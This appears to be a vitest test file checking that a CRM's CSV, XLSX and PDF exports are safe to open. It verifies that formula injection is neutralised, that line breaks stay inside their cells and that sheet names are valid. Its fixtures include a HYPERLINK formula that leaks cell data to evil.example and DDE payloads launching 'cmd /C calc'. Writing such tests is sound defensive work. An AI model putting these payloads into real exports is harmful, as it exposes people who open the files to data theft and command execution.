// Issue 18 point 4: exports are safe to open. Line breaks stay inside their cell, formulas are
// neutralised in CSV while negative amounts stay numbers, sheet names are valid, amounts carry
// their currency, and the PDF prints any name, its page numbers and its filters.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { saveSettings } from '../../db/settings.ts';
import { startApi, type Client, type TestApi } from '../../../test/helpers/api.ts';
import { deleteAllRecords, keepSettings } from '../../../test/helpers/database.ts';
import { pdfText, pdfTextItems } from '../../../test/helpers/pdf-text.ts';

let api: TestApi;
let manager: Client;
let token: string;
let restoreSettings: () => Promise<void>;
// downloads still running, e.g. after a test timed out: awaited before the next test's data is built
const downloads = new Set<Promise<unknown>>();

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")';

beforeAll(async () => {
  api = await startApi();
  manager = await api.as('manager', 'Łukasz Wałęsa');
  token = (await manager.post('/api/auth/tokens', { name: 'export test' })).body.token;
});
afterAll(() => api.close());
// every test exports the same five deals and leaves no records or settings behind
beforeEach(async () => {
  restoreSettings = await keepSettings(api.database.db);
  const companyId = (await manager.post('/api/companies', { name: 'Ærø Færger A/S' })).body.id;
  const other = (await manager.post('/api/companies', { name: 'Göran Östlund AB' })).body.id;
  const deals = [
    { title: 'Første linje\nanden linje', amount: 100, margin: -1234.5, companyId },
    { title: HYPERLINK, amount: -250.75, currency: 'EUR', companyId },
    { title: '+45 62 52 10 00', amount: 1, companyId },
    { title: "-2+3+cmd|' /C calc'!A0", amount: 2, companyId: other },
    { title: "@SUM(1+1)*cmd|' /C calc'!A0", amount: 3, companyId: other },
  ];
  for (const deal of deals) expect((await manager.post('/api/opportunities', deal)).status).toBe(201);
  await saveSettings(api.database.db, { companyName: 'Nord/Syd [Salg]: Hvem? *Alle* \\ og Ærø ApS' });
});
afterEach(async () => {
  await Promise.allSettled([...downloads]);
  await restoreSettings();
  await deleteAllRecords(api.database.db);
});

const download = async (url: string) => {
  const pending = api.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } });
  downloads.add(pending);
  const response = await pending.finally(() => downloads.delete(pending));
  expect(response.statusCode, url).toBe(200);
  return response.rawPayload;
};

describe('CSV is safe to open (L-6)', () => {
  it('keeps a cell with a bare line break in one record, and neutralises formulas but not negative amounts', async () => {
    for (const [delimiter, separator, negative, margin] of [
      ['semicolon', ';', '-250,75', '-1234,50'],
      ['comma', ',', '-250.75', '-1234.50'],
    ] as const) {
      const body = await download(
        `/api/opportunities/export?format=csv&delimiter=${delimiter}&sort=number&columns=number,title,amount,margin`,
      );
      const rows: string[][] = parse(body, { bom: true, delimiter: separator });
      expect(rows[0]?.slice(0, 3)).toEqual(['Number', 'Subject', 'Amount']);
      // five deals, five records: the line break stayed inside its quoted cell
      expect(rows).toHaveLength(6);
      expect(rows.slice(1).map((row) => row[1])).toEqual([
        'Første linje\nanden linje',
        `'${HYPERLINK}`,
        "'+45 62 52 10 00",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
      ]);
      // a negative amount is a number, not text: no leading apostrophe
      expect(rows[2]?.[2]).toBe(negative);
      expect(rows[1]?.[rows[0]?.indexOf('Margin') ?? -1]).toBe(margin);
    }
  });
});

describe('the activities export is as safe (L-6)', () => {
  it('neutralises a formula subject and keeps a multi-line text in its cell', async () => {
    const companyId = (await manager.get('/api/companies?q=Ærø')).body.items[0].id;
    expect(
      (
        await manager.post('/api/activities', {
          type: 'meeting',
          subject: '=1+2',
          text: 'Linje 1\rLinje 2',
          companyId,
          dueDate: '2026-05-01',
        })
      ).status,
    ).toBe(201);
    const rows: string[][] = parse(await download('/api/activities/export?format=csv&delimiter=semicolon&columns=subject,text'), {
      bom: true,
      delimiter: ';',
    });
    expect(rows).toEqual([
      ['Subject', 'Text'],
      ["'=1+2", 'Linje 1\rLinje 2'],
    ]);
  });
});

describe('XLSX is safe to open (L-6)', () => {
  it('names its sheet validly and gives the currency beside the amounts', async () => {
    const workbook = new ExcelJS.Workbook();
    const file = await download('/api/opportunities/export?format=xlsx&sort=number&columns=title,amount');
    await workbook.xlsx.load(file as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    expect(sheet.name).not.toMatch(/[/\\?*[\]:]/);
    expect(sheet.name.length).toBeGreaterThan(0);
    expect(sheet.name.length).toBeLessThanOrEqual(31);
    expect(sheet.name.startsWith('Nord-Syd -Salg')).toBe(true);
    expect(sheet.getRow(1).values).toEqual([undefined, 'Subject', 'Amount', 'Currency']);
    expect(sheet.getRow(3).values).toEqual([undefined, HYPERLINK, -250.75, 'EUR']);
  });
});

describe('PDF is readable (L-6)', () => {
  it('prints any letter, the filters in words and "Side n / N" on every page', async () => {
    await sql`INSERT INTO opportunities (number, title, company_id, owner_id, process_id, status, amount)
      SELECT 100 + g, 'Fylde ' || g, (SELECT min(id) FROM companies), ${manager.userId}, (SELECT id FROM sales_processes WHERE is_default), 'open', g
      FROM generate_series(1, 80) g`.execute(api.database.db);
    const pdf = await download(
      `/api/opportunities/export?format=pdf&lang=da&status=open&ownerId=${manager.userId}&amount.gte=-1000&sort=number`,
    );
    const text = pdfText(pdf);
    for (const name of ['Łukasz', 'Ærø Færger A/S', 'Göran Östlund AB', 'Nord/Syd [Salg]: Hvem? *Alle* \\ og Ærø ApS'])
      expect(text).toContain(name);
    expect(text).toContain('Filtre: Status: Åben · Ansvarlig: Łukasz Wałęsa · Beløb ≥ -1000');
    const items = pdfTextItems(pdf);
    const pages = Math.max(...items.map((item) => item.page));
    expect(pages).toBeGreaterThan(1);
    for (let page = 1; page <= pages; page += 1) {
      expect(items.filter((item) => item.page === page).map((item) => item.text)).toContain(`Side ${page} / ${pages}`);
    }
    // the amount's currency is a column of the PDF too
    expect(text).toContain('Valuta');
    expect(text).toContain('EUR');
  });
});
